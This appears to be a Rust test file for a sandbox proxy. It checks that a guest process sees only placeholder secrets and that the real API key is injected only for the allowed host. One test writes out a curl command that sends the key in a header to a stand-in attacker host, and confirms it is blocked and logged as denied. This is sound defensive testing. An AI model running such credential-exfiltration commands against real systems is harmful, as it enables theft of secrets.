//! The guest holds placeholders, the server receives secrets, nobody else does.

use crate::lab::{API, EVIL, NetLab};

cases![
    the_server_receives_the_secret_that_the_guest_never_had,
    a_placeholder_for_another_host_is_stopped_and_told,
];

const SECRET: &str = "sk-live-5f2c81d09a";

fn the_server_receives_the_secret_that_the_guest_never_had() {
    let lab = NetLab::new();
    let secret = format!("API_KEY={SECRET}@{API}");
    let out = lab.out(
        &["--secret", &secret],
        &format!(
            "echo \"$API_KEY\"; env; curl -sS -H \"Authorization: Bearer $API_KEY\" https://{API}/status/200"
        ),
    );
    assert!(out.starts_with("SANDBOX_SECRET_"), "{out}");
    assert!(!out.contains(SECRET), "{out}");
    let received = lab.origin.last();
    assert_eq!(received.header("authorization"), Some(&*format!("Bearer {SECRET}")));
    let requests = lab.events("request");
    assert_eq!(requests.len(), 1, "{requests:?}");
    assert_eq!(requests[0]["secrets"][0], "API_KEY");
    let trail = std::fs::read_to_string(lab.path("audit.jsonl")).expect("read");
    assert!(!trail.contains(SECRET), "{trail}");
}

fn a_placeholder_for_another_host_is_stopped_and_told() {
    let lab = NetLab::new();
    let secret = format!("API_KEY={SECRET}@{API}");
    let script = format!(
        "curl -sS -o /dev/stderr -w '%{{http_code}}' -H \"X-Key: $API_KEY\" https://{EVIL}/"
    );
    let out = lab.out(&["--secret", &secret, "--allow-host", EVIL], &script);
    assert_eq!(out, "403");
    assert_eq!(lab.origin.requests().len(), 0, "nothing arrived");
    let refused = &lab.events("request")[0];
    assert_eq!(refused["decision"], "denied", "{refused}");
}
